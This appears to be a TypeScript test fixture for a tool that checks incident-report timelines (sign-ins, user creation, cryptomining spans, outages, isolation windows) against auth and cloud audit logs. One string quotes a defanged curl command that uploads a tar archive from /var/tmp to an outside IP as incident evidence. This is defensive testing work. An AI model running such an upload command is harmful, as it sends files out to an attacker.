import type { Happening } from '../../src/report/check/statement.ts';
import { anew, ended } from './outages.ts';
import { clock } from './saying.ts';
import type { Case, Said } from './saying.ts';

const moment = (of: Happening, time: string, day?: string): Said => ({
  about: 'moment',
  of,
  at: clock(time, day),
  isDated: true,
  order: null,
});
const local: readonly Said[] = [
  moment('access', '03:15'),
  moment('user-made', '03:18'),
  moment('install', '03:20'),
  moment('isolation', '09:32'),
];

const span = (of: Happening | 'dwell', from: string, to: string): Said => ({
  about: 'span',
  of,
  from: clock(from),
  to: clock(to),
});

const sent = 'deploy ran curl -s -T /var/tmp/b.tar http://203.0.113[.]89:8080/u on build-7';
const due = {
  manual_steps: [
    {
      text: 'Cut off deploy by hand',
      why: 'no command does it',
      how: null,
      owner: 'incident lead',
      due: '2026-02-10T19:00:30Z',
      evidence: ['linux.auth:08:15:02'],
      evidence_count: 1,
    },
  ],
};

export const timeCases: readonly Case[] = [
  { check: 'moments', name: 'a sign-in to the minute', says: [moment('access', '08:15')], finds: 'supported' },
  {
    check: 'moments',
    name: 'a sign-in before any',
    says: [moment('access', '07:05')],
    finds: 'contradicted',
    why: /later, at 2026-02-10 08:09|later, at 2026-02-10 08:15:02 UTC/,
  },
  {
    check: 'moments',
    name: 'a user made two minutes off',
    says: [moment('user-made', '08:22')],
    finds: 'contradicted',
    why: /4 min earlier, at 2026-02-10 08:18:01 UTC: deploy made the user/,
  },
  { check: 'moments', name: 'a user made when it was', says: [moment('user-made', '08:18')], finds: 'supported' },
  { check: 'moments', name: 'a half hour, rounded', says: [moment('termination', '16:00')], finds: 'supported' },
  { check: 'moments', name: 'an hour off', says: [moment('termination', '17:00')], finds: 'contradicted' },
  { check: 'moments', name: 'onset before access', says: [moment('compromise', '07:45')], finds: 'contradicted' },
  { check: 'moments', name: 'onset at the door', says: [moment('compromise', '08:15')], finds: 'supported' },
  {
    check: 'moments',
    name: 'what no record shows',
    says: [moment('credential-revoked', '15:00')],
    finds: 'unsupported',
    why: /linux\.auth, oci\.audit and oci\.vcn-flow/,
  },
  {
    check: 'moments',
    name: 'the launch of the machine itself, weeks before',
    says: [moment('launch', '10:00', '2026-01-15')],
    finds: 'unsupported',
  },
  { check: 'moments', name: 'the time of the report', says: [moment('report', '17:00')], finds: null },
  {
    check: 'moments',
    name: 'a time by which something is due',
    says: [{ ...moment('isolation', '19:00'), label: 'Due (UTC)' }],
    on: due,
    finds: 'supported',
  },
  {
    check: 'moments',
    name: 'a time by which nothing is due',
    says: [{ ...moment('isolation', '20:00'), label: 'Due (UTC)' }],
    on: due,
    finds: null,
  },
  {
    check: 'moments',
    name: 'an entry in the words of the timeline',
    says: [{ ...moment('download', '13:31'), words: sent }],
    finds: 'supported',
  },
  {
    check: 'moments',
    name: 'the same at another time',
    says: [{ ...moment('download', '12:31'), words: sent }],
    finds: 'contradicted',
  },
  { check: 'moments', name: 'a zone misread weighs on no time', says: local, finds: 'supported' },
  {
    check: 'clocks',
    name: 'a zone misread is said once',
    says: local.toReversed().map((said) => ({ ...said, isZoneAssumed: true })),
    finds: 'unsupported',
    why: /5 h later/,
  },
  {
    check: 'clocks',
    name: 'a zone that fits',
    says: [moment('access', '08:15'), moment('user-made', '08:18'), moment('install', '08:20')],
    finds: null,
  },
  {
    check: 'clocks',
    name: 'a zone that is named and wrong',
    says: local.toReversed().map((said) => ({ ...said, words: '03:15 UTC sign-in' })),
    finds: 'contradicted',
  },
  {
    check: 'spans',
    name: 'an outage until another took its place',
    says: [span('outage', '14:32', '16:00')],
    finds: 'supported',
    on: anew,
  },
  {
    check: 'spans',
    name: 'an outage told from the end of the machine',
    says: [span('outage', '15:52', '16:05')],
    finds: 'supported',
    on: anew,
  },
  {
    check: 'spans',
    name: 'an outage that began before anything was cut off',
    says: [span('outage', '13:00', '16:00')],
    finds: 'contradicted',
    on: anew,
  },
  {
    check: 'spans',
    name: 'an outage that ended before anything took its place',
    says: [span('outage', '14:32', '15:10')],
    finds: 'contradicted',
    on: anew,
  },
  {
    check: 'spans',
    name: 'an outage that went on after it',
    says: [span('outage', '14:32', '18:00')],
    finds: 'unsupported',
    on: anew,
  },
  {
    check: 'spans',
    name: 'an outage that no record ends',
    says: [span('outage', '14:32', '18:00')],
    finds: 'unsupported',
    on: ended,
  },
  {
    check: 'spans',
    name: 'an outage over before the machine was ended',
    says: [span('outage', '14:32', '15:00')],
    finds: 'contradicted',
    on: ended,
  },
  {
    check: 'moments',
    name: 'when an outage began',
    says: [moment('outage', '14:32')],
    finds: 'supported',
    on: anew,
  },
  {
    check: 'moments',
    name: 'an outage before anything was cut off',
    says: [moment('outage', '13:00')],
    finds: 'contradicted',
    on: anew,
  },
  {
    check: 'spans',
    name: 'mining from before its first run',
    says: [span('mining', '08:05', '14:30')],
    finds: 'contradicted',
    why: /08:30:08 UTC/,
  },
  { check: 'spans', name: 'mining from its first run', says: [span('mining', '08:30', '14:30')], finds: 'supported' },
  {
    check: 'spans',
    name: 'mining until after the end',
    says: [span('mining', '08:30', '18:30')],
    finds: 'contradicted',
    why: /ended by 2026-02-10 15:52:30/,
  },
  {
    check: 'spans',
    name: 'a window that holds the act',
    says: [span('isolation', '14:32', '14:45')],
    finds: 'supported',
  },
  {
    check: 'spans',
    name: 'a window that does not',
    says: [span('isolation', '15:10', '15:45')],
    finds: 'contradicted',
  },
  {
    check: 'spans',
    name: 'a window of which no record tells',
    says: [span('credential-revoked', '14:45', '15:30')],
    finds: 'unsupported',
  },
  { check: 'spans', name: 'from the way in to the alert', says: [span('dwell', '08:15', '14:30')], finds: 'supported' },
  {
    check: 'spans',
    name: 'from long after the way in',
    says: [span('dwell', '10:15', '14:30')],
    finds: 'contradicted',
  },
];
